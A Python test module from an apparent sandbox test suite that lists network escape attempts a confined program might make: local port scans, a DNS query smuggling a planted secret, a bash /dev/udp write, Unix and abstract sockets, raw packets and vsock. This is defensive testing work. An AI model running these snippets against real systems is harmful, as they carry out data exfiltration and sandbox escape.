"""Getting something out, or in, over a network or a socket."""

from __future__ import annotations

import socket
from typing import Final

from tests.capabilities.sandbox.attacks.scene import Attack, Outcome, Scene, leaked

_CONNECT: Final = """
import socket
line = socket.socket({family}); line.settimeout(2); line.connect({address}); print(line.recv(100).decode())
"""
_DNS: Final = """
import socket
names = b"".join(bytes([len(name)]) + name for name in (b"PLANTED-7c1f4e", b"example", b"org", b""))
query = bytes.fromhex("123401000001000000000000") + names + bytes.fromhex("00010001")
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", @names@))
"""
_OPEN: Final = "import socket; socket.socket({}); print('REACHED')"
_INTERFACES: Final = "import socket; print('REACHED' if [n for _, n in socket.if_nameindex() if n != 'lo'] else 'no')"
_SCAN: Final = """
import socket
for port in range(@port@ - 5, @port@ + 6):
    line = socket.socket(); line.settimeout(0.2)
    if line.connect_ex(("127.0.0.1", port)) == 0:
        print("REACHED")
"""


def _to(name: str, family: str, address: str) -> Attack:
    """Return an attack that reads what listens at an address."""
    return Attack(name=name, program=_CONNECT.format(family=family, address=address), python=True, sign=leaked)


def asked(scene: Scene, _: Outcome) -> bool:
    """Whether the name server got a query with the secret in it; a last query of our own says that all were read."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"LAST", ("127.0.0.1", scene.names))
    with scene.heard:
        assert scene.heard.wait_for(lambda: b"LAST" in scene.asked, 30)
    return any(b"PLANTED" in query for query in scene.asked)


NETWORK: Final = (
    _to("a server of the host", "socket.AF_INET", "('127.0.0.1', @port@)"),
    _to("a server of the host by IPv6", "socket.AF_INET6", "('::ffff:127.0.0.1', @port@)"),
    _to("a server by the zero address", "socket.AF_INET", "('0.0.0.0', @port@)"),
    Attack(name="a scan of ports", program=_SCAN, python=True),
    Attack(name="a query to a name server", program=_DNS, python=True, sign=asked),
    Attack(
        name="a query by bash",
        program="bash -c 'printf PLANTED >/dev/udp/127.0.0.1/@names@'",
        sign=asked,
        needs="/bin/bash",
    ),
    _to("a socket file outside", "socket.AF_UNIX", "'@base@/agent.sock'"),
    _to("a socket file in the workspace", "socket.AF_UNIX", "'dev.sock'"),
    _to("a socket file bound by its last name alone", "socket.AF_UNIX", "'docs/deep.sock'"),
    _to("a socket without a file", "socket.AF_UNIX", "'\\0@abstract@'"),
    Attack(name="the host's interfaces", program=_INTERFACES, python=True, needs="/sys/class/net/eth0"),
    Attack(name="raw packets", program=_OPEN.format("socket.AF_INET, socket.SOCK_RAW, 1"), python=True, needs="root"),
    Attack(name="frames", program=_OPEN.format("17, socket.SOCK_RAW"), python=True, needs="root"),
    Attack(
        name="the virtual machine's host",
        program=_OPEN.format("40, socket.SOCK_STREAM"),
        python=True,
        needs="/dev/vsock",
    ),
    Attack(
        name="the kernel's cryptography",
        program=_OPEN.format("38, socket.SOCK_SEQPACKET"),
        python=True,
        needs="/sys/module/af_alg",
    ),
)
